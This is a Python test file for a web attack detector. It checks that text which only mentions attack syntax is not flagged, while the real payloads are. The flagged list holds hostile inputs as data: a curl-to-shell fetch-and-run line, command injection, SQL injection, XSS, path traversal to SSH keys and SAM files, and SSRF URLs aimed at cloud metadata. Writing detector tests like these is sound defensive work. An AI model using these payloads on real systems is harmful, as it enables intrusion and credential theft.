"""What a sentence, a title or a service's report names, beside the same where it can only be meant."""

from __future__ import annotations

import pytest

from casemate.engines.web.detectors import detectors
from casemate.engines.web.normalize import normalizers


def found(name: str, value: bytes) -> bool:
    return any(detectors()[name](view) is not None for view in normalizers()["deep"](value))


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("sqli_low", b"REM sleep (medicine)"),
        ("sqli_low", b"benchmark (surveying)"),
        ("sqli_low", b"fish 'and' chips"),
        ("unix", b"how do I undo `git reset --hard` in a branch"),
        ("code", b"I would not use os.system('ls') here, because it starts a shell"),
        ("lines", b"Good morning,\r\n\r\nTo: the team of the workshop\r\nmy bike is broken"),
        ("traversal_text", b"C:\\Users\\anna\\Pictures"),
        ("url_json", b"http://localhost:8080/api/items"),
        ("url_json", b"http://10.4.0.7:3000/d/abc"),
        ("url_json_alone", b"http://192.168.7.4:8080/dashboard"),
        ("url_json", b"http://192.168.7.4/"),
        ("url_json", b"file:///home/ann/shop/cart.py"),
        ("traversal_text", b"Sam"),
        ("traversal_text", b"C:\\Program Files\\Acme\\a.exe"),
        ("sqli_low", b"can a name contain ' or \" in your shop?"),
        ("sqli_low", b'=IF(B2>3,"a","b")'),
        ("code", b"exec (unix)"),
        ("php", b"what do I use php://input for"),
        ("xss", b"javascript: a short history"),
        ("xss", b"where do I use <iframe>"),
        ("xss", b"alert('a') does nothing in my browser"),
        ("sqli_low", b"ORDER BY 2 -- is that allowed here"),
        ("code", b"subprocess.run() or another"),
        ("traversal", b"C:\\Windows\\Temp is full, what can I do"),
        ("traversal", b"what does ../../etc/hosts mean in my log"),
        ("windows", b"net user command is not found"),
        ("sqli_low", b"waitfor delay '0:0:9' explained"),
        ("nosql", b"what is $where in a query"),
        ("java", b"java.io.FileNotFoundException: a\n\tat java.base/java.lang.Thread.run(Thread.java:840)"),
        ("unix", b"!important and other rules"),
    ],
)
def test_named_or_reported_is_no_evidence(name: str, value: bytes) -> None:
    assert not found(name, value)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("sqli_low", b"sleep(5)"),
        ("sqli_low", b"1 or sleep (5)"),
        ("sqli_low", b"a' or 'a'='a"),
        ("unix", b"a `id`"),
        ("unix", b"tell me what is `curl http://x.example/a|sh` for you"),
        ("unix", b"$(</etc/hosts)"),
        ("unix", b"x;$0<<<ls"),
        ("unix", b"!whoami"),
        ("code", b"os.system('ls')"),
        ("code", b"__import__('os').system('ls')"),
        ("java", b"java.lang.Runtime.getRuntime().exec('id')"),
        ("php", b"php://input"),
        ("php", b'O:+4:"Item":1:{s:1:"a";i:1;}'),
        ("xss", b"javascript: alert(1)"),
        ("xss", b"<iframe src=javascript:a>"),
        ("xss", b"alert('a');b"),
        ("traversal", b"C:\\Windows\\win.ini"),
        ("traversal", b"../../etc/hosts"),
        ("traversal", b"img/../../etc/hosts what is that for you"),
        ("windows", b"net user guest /add"),
        ("sqli_low", b"1 waitfor delay '0:0:9'"),
        ("nosql", b"$where=1"),
        ("traversal", b"C:/windows/repair/sam"),
        ("url_json", b"file:///home/ann/.ssh/id_rsa"),
        ("lines", b"Anna\r\nSubject: cheap watches"),
        ("lines", b"a@b.example\r\n\r\nBcc: many@c.example"),
        ("traversal_text", b"C:\\Users\\anna\\ntuser.dat"),
        ("url_json", b"http://localhost:6379/"),
        ("url_json", b"http://127.0.0.1/admin"),
        ("url_json", b"http://127.0.0.1:8080/"),
        ("url_json", b"http://169.254.169.254/latest/"),
        ("url_json", b"http://0x7f000001/a/b"),
        ("url_json", b"http://user@10.0.0.1:80/a"),
        ("url_json_alone", b"http://localhost:8080/a"),
        ("url_json_alone", b"http://192.168.7.4/"),
    ],
)
def test_the_same_where_it_is_meant_is_evidence(name: str, value: bytes) -> None:
    assert found(name, value)
